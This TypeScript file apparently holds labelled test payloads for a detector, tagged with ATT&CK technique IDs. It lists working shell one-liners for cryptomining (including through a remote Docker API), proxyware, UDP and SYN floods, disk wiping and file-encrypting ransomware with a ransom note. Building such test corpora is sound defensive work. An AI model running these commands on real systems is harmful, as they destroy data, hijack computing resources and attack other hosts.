import { type Payload, payloads } from '../payload.ts';

const dropped = { content: '\u007fELF stand-in', mode: 0o755 };

/** What it is all for: mining, bandwidth, floods, wiping, ransom. */
export const shellImpact: readonly Payload[] = [
  ...payloads('shell', 'IM-MINER', [
    [
      'miner-args',
      'malicious',
      'T1496 T1496.001',
      (p) => `./xmrig -o stratum+tcp://${p.pool} -u ${p.wallet} -p x --donate-level 1 -B`,
    ],
    [
      'miner-renamed',
      'malicious',
      'T1496 T1496.001',
      (p) => `/usr/sbin/httpd -a rx/0 --url ${p.pool} --user ${p.wallet} --pass x --cpu-max-threads-hint=75`,
      () => ({ '/usr/sbin/httpd': dropped }),
    ],
    [
      'miner-minerd',
      'malicious',
      'T1496 T1496.001',
      (p) => `nohup minerd -B -a cryptonight -o stratum+tcp://${p.pool} -u ${p.wallet} -p x > /dev/null 2>&1 &`,
    ],
    [
      'miner-config',
      'malicious',
      'T1496 T1496.001',
      (p) =>
        `cat > /tmp/config.json <<EOF\n{"algo":"rx/0","donate-level":1,"pools":[{"url":"${p.pool}","user":"${p.wallet}","pass":"x","keepalive":true}]}\nEOF\n/opt/nodjs -c /tmp/config.json`,
      () => ({ '/opt/nodjs': dropped }),
    ],
    [
      'miner-tuned',
      'malicious',
      'T1496 T1496.001',
      (p) =>
        `sysctl -w vm.nr_hugepages=1280\nmodprobe msr\nwrmsr -a 0x1a4 0xf\npkill -f kdevtmpfsi; pkill -f xmrig\nnice -n 19 /opt/sys -o ${p.pool} -u ${p.wallet} -k --tls`,
      () => ({ '/opt/sys': dropped }),
    ],
    [
      'miner-docker',
      'malicious',
      'T1496 T1496.001 T1610',
      (p) =>
        `docker -H tcp://${p.ip}:2375 run -d --restart always alpine sh -c "apk add xmrig; xmrig -o ${p.pool} -u ${p.wallet}"`,
    ],
  ]),
  ...payloads('shell', 'IM-PROXYWARE', [
    [
      'proxy-traffmonetizer',
      'suspicious',
      'T1496.002',
      (p) => `/app/Cli start accept --token ${p.wallet.slice(0, 40)}=`,
    ],
    [
      'proxy-honeygain',
      'suspicious',
      'T1496.002',
      (p) => `honeygain -tou-accept -email a@${p.host} -pass p${p.port} -device d1`,
    ],
    [
      'proxy-pawns',
      'suspicious',
      'T1496.002',
      (p) => `pawns-cli -email=a@${p.host} -password=p -device-name=d -accept-tos`,
    ],
    ['proxy-earnapp', 'suspicious', 'T1496.002', () => 'earnapp start; earnapp run'],
    [
      'proxy-docker',
      'suspicious',
      'T1496.002',
      (p) => `docker run -d --restart=always traffmonetizer/cli_v2 start accept --token ${p.wallet.slice(0, 40)}`,
    ],
  ]),
  ...payloads('shell', 'IM-DDOS', [
    ['flood-hping', 'suspicious', 'T1498 T1498.001 T1499', (p) => `hping3 -S --flood -V -p 80 ${p.ip}`],
    [
      'flood-udp',
      'suspicious',
      'T1498 T1498.001 T1499',
      (p) => `while :; do dd if=/dev/urandom bs=1400 count=100 2>/dev/null > /dev/udp/${p.ip}/${p.port}; done`,
    ],
  ]),
  ...payloads('shell', 'IM-WIPE', [
    ['wipe-host', 'malicious', 'T1485', () => 'rm -rf --no-preserve-root /host/*'],
    ['wipe-disk', 'malicious', 'T1485 T1561 T1561.001', () => 'dd if=/dev/zero of=/dev/sda bs=1M'],
    ['wipe-shred', 'malicious', 'T1485', () => 'find /host/home -type f -exec shred -n 1 -z -u {} \\;'],
  ]),
  ...payloads('shell', 'IM-RANSOM', [
    [
      'ransom-openssl',
      'malicious',
      'T1486',
      (p) =>
        `for f in $(find /host/home -type f); do openssl enc -aes-256-cbc -pbkdf2 -in "$f" -out "$f.locked" -k ${p.port}k; rm -f "$f"; done\necho "Your files are encrypted. Send 1 XMR to ${p.wallet}" > /host/README_RESTORE.txt`,
    ],
  ]),
];
